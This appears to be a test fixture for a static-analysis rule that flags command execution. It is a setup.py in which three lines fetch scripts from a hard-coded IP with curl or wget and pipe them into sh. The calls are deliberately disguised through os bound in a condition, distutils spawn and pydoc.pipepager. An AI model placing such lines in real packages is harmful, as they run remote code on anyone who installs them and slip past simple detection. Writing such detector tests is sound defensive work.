import pydoc
from distutils.spawn import spawn

from setuptools import setup

# A module bound inside a condition, the distutils spawner and the pager command: none of them named os.system.
if (o := __import__('os')):
    # ruleid: code/command-execution
    o.system('curl -s http://45.61.137.24/x | sh')
# ruleid: code/command-execution
spawn(['sh', '-c', 'wget -qO- http://45.61.137.24/y | sh'])
# ruleid: code/command-execution
pydoc.pipepager('', 'curl -s http://45.61.137.24/z | sh')

setup(name='pagerdemo', version='1.0.0', packages=[])
